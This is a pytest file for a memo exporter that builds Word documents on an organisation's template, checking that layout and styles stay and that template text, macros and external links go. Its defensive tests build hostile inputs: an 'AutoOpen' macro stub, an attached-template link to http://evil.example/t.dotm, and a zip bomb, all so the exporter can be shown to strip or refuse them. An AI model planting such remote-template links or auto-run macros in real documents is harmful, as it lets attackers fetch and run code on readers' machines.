"""A house's own Word template: its look stays, its styles are found, its text and macros go."""

import base64
import io
import re
from pathlib import Path

import docx
import pytest
from docx.document import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Mm
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from msgspec.structs import replace

from briefing.errors import UsageError
from briefing.exporters.docx import export
from briefing.exporters.docx.package import zip_parts
from briefing.models import Memo
from tests.exporters.ooxml_rules import NAMES, broken, parts, tree
from tests.fuzzing import count_examples

SHARED = Path(__file__).parents[2].parent / "shared" / "data" / "reading" / "docx"
DOT = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DOTM = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"

# how programs and people call a heading 1, a title and a bulleted list: (id, name)
DIALECTS = {
    "Word in English": [
        ("Heading1", "heading 1"), ("Title", "Title"), ("ListBullet", "List Bullet"),
    ],
    "Word in German": [
        ("berschrift1", "heading 1"), ("Titel", "Title"), ("Aufzhlungszeichen", "List Bullet"),
    ],
    "Word in Russian": [("1", "heading 1"), ("a3", "Title"), ("a0", "List Bullet")],
    "Word in Japanese": [("1", "heading 1"), ("a5", "Title"), ("a", "List Bullet")],
    "names in German": [
        ("style12", "Überschrift 1"), ("style3", "Titel"), ("style7", "Aufzählungszeichen"),
    ],
    "names in French": [("T1", "Titre 1"), ("T", "Titre"), ("P", "Liste à puces")],
    "names in Russian": [("s1", "Заголовок 1"), ("s2", "Название"), ("s3", "Маркированный список")],
    "names in Kazakh": [("k1", "Тақырып 1"), ("k2", "Атауы"), ("k3", "Таңбаланған тізім")],
    "names in Japanese": [("j1", "見出し 1"), ("j2", "表題"), ("j3", "箇条書き")],
}  # fmt: skip


def find(root: etree._Element, path: str) -> list[etree._Element]:
    return list(root.xpath(path, namespaces=NAMES))


def saved(document: Document) -> bytes:
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def house() -> Document:
    """A ministry's letterhead: a logo above, an address below, wide margins, text of its own."""
    document = docx.Document()
    section = document.sections[0]
    section.left_margin = Mm(40)
    run = section.header.paragraphs[0].add_run("Ministry of Rivers ")
    run.add_picture(io.BytesIO(DOT), Mm(9))
    section.footer.paragraphs[0].text = "1 Quay Street"
    document.styles["Heading 1"].font.name = "Garamond"
    document.add_paragraph("Replace this text.")
    document.core_properties.author = "A. Clerk"
    return document


def changed(template: bytes, part: str, old: str, new: str) -> bytes:
    held = parts(template)
    text = held[part].decode()
    assert re.search(old, text)
    held[part] = re.sub(old, new, text).encode()
    return zip_parts(held)


def dialect(names: list[tuple[str, str]]) -> bytes:
    """The letterhead with its styles under other ids and names."""
    document = house()
    for (key, name), own in zip(names, ("Heading 1", "Title", "List Bullet"), strict=True):
        style = document.styles[own].element
        style.set(f"{{{NAMES['w']}}}styleId", key)
        style.find("w:name", NAMES).set(f"{{{NAMES['w']}}}val", name)
    return saved(document)


@pytest.fixture(scope="module")
def letterhead() -> bytes:
    return saved(house())


@pytest.fixture(scope="module")
def made(memo: Memo, letterhead: bytes) -> bytes:
    return export(memo, letterhead)


# --- what stays --------------------------------------------------------------------------------


def test_the_result_is_sound(made: bytes) -> None:
    assert broken(made) == []


def test_margins_header_logo_and_footer_stay(made: bytes) -> None:
    section = docx.Document(io.BytesIO(made)).sections[0]
    assert round(section.left_margin.mm) == 40
    assert section.header.paragraphs[0].text == "Ministry of Rivers "
    assert DOT in parts(made).values()
    assert section.footer.paragraphs[0].text == "1 Quay Street"


def test_pictures_of_the_house_get_an_alternative_text(made: bytes) -> None:
    name = next(name for name in parts(made) if b"wp:docPr" in parts(made)[name])
    assert tree(made, name).xpath("//*[local-name()='docPr']/@descr") == ["Logo"]


def test_typefaces_of_the_house_stay_and_added_styles_bring_none(made: bytes) -> None:
    styles = docx.Document(io.BytesIO(made)).styles
    assert styles["Heading 1"].font.name == "Garamond"
    assert styles["Briefing Cell"].font.name is None


def test_the_marking_is_added_to_the_header_of_every_kind_of_page(memo: Memo) -> None:
    document = house()
    document.sections[0].different_first_page_header_footer = True
    document.settings.odd_and_even_pages_header_footer = True
    section = docx.Document(io.BytesIO(export(memo, saved(document)))).sections[0]
    headers = (section.header, section.first_page_header, section.even_page_header)
    assert [header.paragraphs[-1].text for header in headers] == ["RESTRICTED"] * 3


def test_a_memo_without_a_marking_leaves_headers_alone(memo: Memo, letterhead: bytes) -> None:
    section = docx.Document(io.BytesIO(export(replace(memo, header={}), letterhead))).sections[0]
    assert [p.text for p in section.header.paragraphs] == ["Ministry of Rivers "]


def test_controls_in_a_header_are_filled_in(memo: Memo) -> None:
    document = house()
    control = (
        '<w:sdt xmlns:w="{}"><w:sdtPr><w:tag w:val="briefing:{}"/></w:sdtPr><w:sdtContent><w:r>'
        "<w:rPr><w:b/></w:rPr><w:t>…</w:t></w:r></w:sdtContent></w:sdt>"
    )
    line = document.sections[0].header.paragraphs[0]._p
    line.append(etree.fromstring(control.format(NAMES["w"], "marking")))
    line.append(etree.fromstring(control.format(NAMES["w"], "reference")))
    header = docx.Document(io.BytesIO(export(memo, saved(document)))).sections[0].header
    assert [p.text for p in header.paragraphs] == ["Ministry of Rivers RESTRICTED"]
    assert header.paragraphs[0].runs[-1].bold


def test_headers_of_earlier_sections_are_inherited(memo: Memo) -> None:
    document = house()
    document.add_section()  # linked to the first one's header
    made = export(memo, saved(document))
    sections = docx.Document(io.BytesIO(made)).sections
    assert len(sections) == 1
    assert sections[0].header.paragraphs[0].text == "Ministry of Rivers "


def test_a_logo_that_opens_the_body_stays_above_the_title(memo: Memo) -> None:
    document = docx.Document()
    document.add_picture(io.BytesIO(DOT))
    document.add_paragraph("Dear …,")
    made = docx.Document(io.BytesIO(export(memo, saved(document))))
    assert len(made.inline_shapes) == 1
    assert [p.text for p in made.paragraphs[:2]] == ["", memo.title]


def test_a_bookmark_that_ends_in_the_sample_text_goes(memo: Memo) -> None:
    template = docx.Document()
    template.add_table(1, 1).cell(0, 0).text = "Ministry of Rivers"
    heading = template.add_heading("Sample text")
    start = OxmlElement("w:bookmarkStart")
    start.set(qn("w:id"), "7")
    start.set(qn("w:name"), "Sample")
    template.tables[0].cell(0, 0).paragraphs[0]._p.append(start)
    end = OxmlElement("w:bookmarkEnd")
    end.set(qn("w:id"), "7")
    heading._p.append(end)
    made = export(memo, saved(template))
    assert "Ministry of Rivers" in "".join(tree(made).itertext())
    assert broken(made) == []


def test_tables_keep_within_the_columns_of_a_page(memo: Memo) -> None:
    document = house()
    document.sections[0]._sectPr.xpath("w:cols")[0].set(f"{{{NAMES['w']}}}num", "2")
    widths = find(tree(export(memo, saved(document))), "//w:tbl/w:tblPr/w:tblW/@w:w")
    page = document.sections[0]
    text = (page.page_width - page.left_margin - page.right_margin) / 635
    assert {int(width) < text / 2 for width in widths} == {True}


def test_a_template_without_a_page_footer_gets_page_numbers(memo: Memo) -> None:
    footer = docx.Document(io.BytesIO(export(memo, saved(docx.Document())))).sections[0].footer
    assert footer.paragraphs[-1].text == "Page 1 of 1"


# --- styles ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", DIALECTS)
def test_styles_are_found_whatever_they_are_called(memo: Memo, name: str) -> None:
    made = export(memo, dialect(DIALECTS[name]))
    body = tree(made)
    texts = ("Key issues", memo.title, "The working paper names three fields.")
    paths = [f"//w:p[not(w:hyperlink/w:r/w:t='{words}')][.//w:t='{words}']" for words in texts]
    used = [find(body, f"({path})[1]/w:pPr/w:pStyle/@w:val")[0] for path in paths]
    assert used == [key for key, _ in DIALECTS[name]]
    assert broken(made) == []


def test_a_heading_of_another_name_is_found_by_its_outline_level(memo: Memo) -> None:
    document = house()
    style = document.styles["Heading 1"].element
    style.set(f"{{{NAMES['w']}}}styleId", "Chapter")
    style.find("w:name", NAMES).set(f"{{{NAMES['w']}}}val", "Chapter of the house")
    body = tree(export(memo, saved(document)))
    assert find(body, "//w:p[w:bookmarkStart][.//w:t='Outcomes']/w:pPr/w:pStyle/@w:val") == [
        "Chapter"
    ]


def test_missing_headings_follow_the_first_one_of_the_house(memo: Memo) -> None:
    document = house()
    for name in ("Heading 2", "Heading 3"):
        document.styles[name].delete()
    styles = docx.Document(io.BytesIO(export(memo, saved(document)))).styles
    assert styles["heading 2"].base_style == styles["heading 1"]
    assert styles["heading 2"].font.name is None


def test_a_template_without_any_style_gets_all_it_needs(memo: Memo, letterhead: bytes) -> None:
    bare = changed(letterhead, "word/styles.xml", r"<w:style .*</w:style>", "")
    assert broken(export(memo, bare)) == []


def test_lists_have_bullets_even_where_the_houses_style_has_none(memo: Memo) -> None:
    document = house()
    style = document.styles["List Bullet"].element
    style.pPr.remove(style.pPr.find("w:numPr", NAMES))
    made = export(memo, saved(document))
    item = find(tree(made), "//w:p[.//w:t='railway ferries and ports']/w:pPr")[0]
    lead = find(tree(made), "//w:p[.//w:t='The working paper names three fields.']/w:pPr")[0]
    assert find(lead, "w:numPr/w:ilvl/@w:val") == ["0"]
    assert find(item, "w:numPr") == []  # List Bullet 2 has its own
    assert broken(made) == []


# --- what goes ---------------------------------------------------------------------------------


def test_text_author_and_thumbnail_of_the_template_go(made: bytes) -> None:
    everything = b"".join(parts(made).values())
    assert b"Replace this text." not in everything
    assert b"A. Clerk" not in everything
    assert not [name for name in parts(made) if "thumbnail" in name]


@pytest.mark.parametrize("kind", [DOTX, DOTM, DOCM])
def test_templates_become_documents(memo: Memo, letterhead: bytes, kind: str) -> None:
    template = changed(letterhead, "[Content_Types].xml", re.escape(MAIN), kind)
    assert MAIN.encode() in parts(export(memo, template))["[Content_Types].xml"]


def test_macros_are_dropped(memo: Memo, letterhead: bytes) -> None:
    held = parts(changed(letterhead, "[Content_Types].xml", re.escape(MAIN), DOTM))
    held["word/vbaProject.bin"] = b"Sub AutoOpen()"
    held["[Content_Types].xml"] = held["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = "word/_rels/document.xml.rels"
    held[rels] = held[rels].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Target="vbaProject.bin" Type="http://schemas.microsoft.com/'
        b'office/2006/relationships/vbaProject"/></Relationships>',
    )
    made = export(memo, zip_parts(held))
    assert not [name for name in parts(made) if "vba" in name]
    assert b"vba" not in parts(made)["[Content_Types].xml"]
    assert broken(made) == []


def test_the_template_is_not_phoned_home_to(memo: Memo, letterhead: bytes) -> None:
    held = parts(letterhead)
    held["word/settings.xml"] = held["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1
    )
    held["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate"/></Relationships>'
    )
    made = export(memo, zip_parts(held))
    assert b"evil.example" not in b"".join(parts(made).values())
    assert broken(made) == []


def test_equal_templates_give_equal_bytes(memo: Memo, letterhead: bytes, made: bytes) -> None:
    assert export(memo, letterhead) == made


# --- what is no template -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "words"),
    [
        (b"not a zip", "not a Word document"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "password"),
        (zip_parts({"word/document.xml": b"<w/>"}), "not a Word document"),
        (zip_parts({"[Content_Types].xml": b"<Types"}), "not a Word document"),
        (zip_parts({"[Content_Types].xml": b"<Types/>"}), "save it in Word"),
    ],
)
def test_reports_a_file_that_is_no_template(memo: Memo, template: bytes, words: str) -> None:
    with pytest.raises(UsageError, match=words):
        export(memo, template)


@settings(deadline=None, max_examples=count_examples(25))
@given(data=st.data())
def test_a_damaged_template_serves_or_is_refused(
    memo: Memo, letterhead: bytes, data: st.DataObject
) -> None:
    held = parts(letterhead)
    names = [name for name in held if name.endswith((".xml", ".rels"))]
    name = data.draw(st.sampled_from(sorted(names)))
    place = data.draw(st.integers(0, len(held[name]) - 1))
    cut = data.draw(st.integers(0, 60))
    held[name] = held[name][:place] + data.draw(st.binary(max_size=3)) + held[name][place + cut :]
    small = replace(memo, annex=(), sections=memo.sections[:1])
    try:
        assert export(small, zip_parts(held))
    except UsageError as error:
        assert str(error).startswith("Word template: ")


def test_strict_open_xml_is_named_as_what_it_is(memo: Memo, letterhead: bytes) -> None:
    strict = changed(
        letterhead, "_rels/.rels",
        "http://schemas.openxmlformats.org/officeDocument", "http://purl.oclc.org/ooxml/officeDocument",
    )  # fmt: skip
    with pytest.raises(UsageError, match="Strict Open XML"):
        export(memo, strict)


def test_a_template_that_unpacks_to_gigabytes_is_refused(memo: Memo, letterhead: bytes) -> None:
    import zipfile

    held = io.BytesIO(letterhead)
    with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/bomb.bin", bytes(300 * 2**20))
    with pytest.raises(UsageError, match="unpacks to more"):
        export(memo, held.getvalue())


# --- templates from the world ------------------------------------------------------------------


def wild() -> list[Path]:
    return sorted(SHARED.glob("*.docx"))


@pytest.mark.skipif(not wild(), reason="no folder of Word files beside the checkout")
def test_documents_from_many_hands_serve_as_templates(memo: Memo) -> None:
    small = replace(memo, annex=memo.annex[:1], sections=memo.sections[:4])
    for path in wild()[::3]:
        template = path.read_bytes()
        try:
            made = export(small, template)
        except UsageError as error:
            assert "Strict" in str(error), path.name
            continue
        own = {"word/styles.xml", "word/numbering.xml"}  # orders that the template breaks itself
        assert [rule for rule in broken(made) if rule.split(":")[0] not in own] == [], path.name
